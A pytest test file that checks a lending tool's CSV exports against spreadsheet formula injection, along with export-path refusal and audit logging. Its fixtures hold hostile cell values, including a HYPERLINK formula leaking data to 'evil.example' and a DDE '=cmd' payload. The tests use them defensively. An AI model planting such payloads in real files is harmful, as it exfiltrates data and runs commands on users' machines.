"""Exports are safe to open in a spreadsheet, and refuse a path that is not a file.

Every feed export and the call list, on SQLite and PostgreSQL: a text cell that a
spreadsheet would read as a formula (leading `=`, `+`, `-`, `@`, tab or CR) starts with `'`;
a legitimately negative number stays a number; the import reads the `'` back off; the audit
row names the OS user and the absolute path.
"""

from __future__ import annotations

import csv
import getpass
from datetime import date, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine, insert, select, update

from pdca.errors import UserError
from pdca.models import (
    Application,
    AuditEntry,
    Complaint,
    Customer,
    Decision,
    Loan,
    OutboxEntry,
    OutreachBatch,
    Repayment,
    Touch,
)
from tasks.data.export import export_call_list, export_feed
from tasks.data.importing import import_feed
from tests.scenario import CAMPAIGN_ID, DAY, apply, customer, local_utc, spec_dict, touch

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Call now")'
PHONE_LINK = '=HYPERLINK("http://e.x/"&A2)'
"""A formula that fits the 32 characters of the phone column."""

# feed → (column holding a formula, its value, numeric column, its negative value)
HOSTILE = {
    "customers": ("segment", "=cmd|' /C calc'!A0", "monthly_income", -5.5),
    "touches": ("variant", "@SUM(1+1)", "cost", -0.25),
    "applications": ("product_code", "+1+2", "amount_requested", -1.0),
    "decisions": ("reject_reason", LINK, "approved_amount", -3.0),
    "loans": ("loan_id", "-2+3", "amount", -10.0),
    "repayments": ("loan_id", "-2+3", "outstanding", -100.5),
    "complaints": ("category", "\rpricing", None, None),
}


@pytest.fixture
def hostile(engine: Engine) -> Engine:
    """One row per feed with a formula in a text column and a negative number (inserted
    directly: data from before the import validated, or from another system)."""
    with engine.begin() as conn:
        apply(conn, spec_dict())
        row = customer("c1")
        row.update(segment=HOSTILE["customers"][1], monthly_income=-5.5, phone=PHONE_LINK)
        conn.execute(insert(Customer).values(row))
        conn.execute(
            insert(Touch).values(
                touch(
                    "t1",
                    "c1",
                    datetime(2026, 3, 4, 4),
                    variant="@SUM(1+1)",
                    campaign_id=CAMPAIGN_ID,
                )
            )
        )
        conn.execute(
            insert(Touch).values(
                touch("t2", "c1", datetime(2026, 3, 4, 5), cost=-0.25, campaign_id=CAMPAIGN_ID)
            )
        )
        conn.execute(
            insert(Application).values(
                application_id="a1",
                customer_id="c1",
                campaign_id=CAMPAIGN_ID,
                channel="sms",
                applied_at=datetime(2026, 3, 4, 6),
                product_code="+1+2",
                amount_requested=-1.0,
            )
        )
        conn.execute(
            insert(Decision).values(
                application_id="a1",
                decided_at=datetime(2026, 3, 4, 7),
                decision="rejected",
                reject_reason=LINK,
                approved_amount=-3.0,
            )
        )
        conn.execute(
            insert(Loan).values(
                loan_id="-2+3",
                application_id="a1",
                disbursed_at=datetime(2026, 3, 5),
                amount=-10.0,
                apr=12.5,
                term_months=12,
            )
        )
        conn.execute(
            insert(Repayment).values(
                loan_id="-2+3", as_of=date(2026, 4, 5), dpd=0, outstanding=-100.5
            )
        )
        conn.execute(
            insert(Complaint).values(
                complaint_id="k1",
                customer_id="c1",
                campaign_id=None,
                received_at=datetime(2026, 3, 6),
                category="\rpricing",
            )
        )
    return engine


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "@", "\t", "\r", "\n")), f"{name}: {value!r}"
            if value.startswith(("+", "-")):
                float(value)  # only a number may start with a sign


class TestFeedExportsAreSpreadsheetSafe:
    @pytest.mark.parametrize("feed", list(HOSTILE))
    def test_formula_neutralised_numbers_kept(self, hostile: Engine, tmp_path: Path, feed: str):
        text_column, value, number_column, number = HOSTILE[feed]
        path = tmp_path / f"{feed}.csv"
        with hostile.connect() as conn:
            export_feed(conn, feed, path)
        rows = cells(path)
        no_formula(rows)
        expected = "'" + value.replace("\r", "\n")  # a bare CR would split the CSV row
        assert expected in [row[text_column] for row in rows]
        if number_column:
            assert number in [float(row[number_column] or 0) for row in rows]

    def test_customers_phone_is_neutralised(self, hostile: Engine, tmp_path: Path):
        path = tmp_path / "customers.csv"
        with hostile.connect() as conn:
            export_feed(conn, "customers", path)
        assert cells(path)[0]["phone"] == "'" + PHONE_LINK

    def test_round_trip_reads_the_quote_back_off(self, hostile: Engine, tmp_path: Path):
        path = tmp_path / "decisions.csv"
        with hostile.begin() as conn:  # a negative amount is a fault of its own at import
            conn.execute(update(Decision).values(approved_amount=None))
        with hostile.connect() as conn:
            export_feed(conn, "decisions", path)
            result = import_feed(conn, "decisions", path)
            reason = conn.execute(select(Decision.reject_reason)).scalar_one()
        assert (result.loaded, result.quarantined) == (1, 0), result.reasons
        assert reason == LINK


class TestCallListIsSpreadsheetSafe:
    def test_formula_phone_neutralised(self, hostile: Engine, tmp_path: Path):
        with hostile.begin() as conn:
            batch = conn.execute(
                insert(OutreachBatch)
                .values(campaign_id=CAMPAIGN_ID, send_date=DAY, window="noon", status="sent")
                .values(summary={})
                .returning(OutreachBatch.batch_id)
            ).scalar_one()
            conn.execute(
                insert(OutboxEntry).values(
                    batch_id=batch,
                    customer_id="c1",
                    channel="phone",
                    variant="-A",
                    scheduled_at=local_utc(DAY, 12, 5),
                    status="sent",
                    attempts=1,
                )
            )
        path = tmp_path / "calls.csv"
        with hostile.connect() as conn:
            assert export_call_list(conn, CAMPAIGN_ID, path) == 1
        [row] = cells(path)
        no_formula([row])
        assert (row["phone"], row["segment"], row["variant"]) == (
            "'" + PHONE_LINK,
            "'" + HOSTILE["customers"][1],
            "'-A",
        )


class TestExportTargetAndAudit:
    def test_directory_is_refused_in_one_line(self, hostile: Engine, tmp_path: Path):
        with hostile.connect() as conn, pytest.raises(UserError, match="is a directory"):
            export_feed(conn, "touches", tmp_path)
        with hostile.connect() as conn, pytest.raises(UserError, match="is a directory"):
            export_call_list(conn, CAMPAIGN_ID, tmp_path)

    def test_unwritable_target_is_refused(self, hostile: Engine, tmp_path: Path):
        blocker = tmp_path / "file"
        blocker.write_text("")
        with hostile.connect() as conn, pytest.raises(UserError, match="cannot write"):
            export_feed(conn, "touches", blocker / "touches.csv")

    def test_audit_names_the_os_user_and_the_absolute_path(
        self, hostile: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ):
        monkeypatch.chdir(tmp_path)
        with hostile.connect() as conn:
            export_call_list(conn, CAMPAIGN_ID, Path("calls.csv"))
            export_feed(conn, "touches", Path("out") / ".." / "touches.csv")
            rows = conn.execute(
                select(AuditEntry.actor, AuditEntry.action, AuditEntry.subject)
                .where(AuditEntry.action.like("export.%"))
                .order_by(AuditEntry.audit_id)
            ).all()
        assert [tuple(row) for row in rows] == [
            (getpass.getuser(), "export.call-list", str(tmp_path.resolve() / "calls.csv")),
            (getpass.getuser(), "export.touches", str(tmp_path.resolve() / "touches.csv")),
        ]
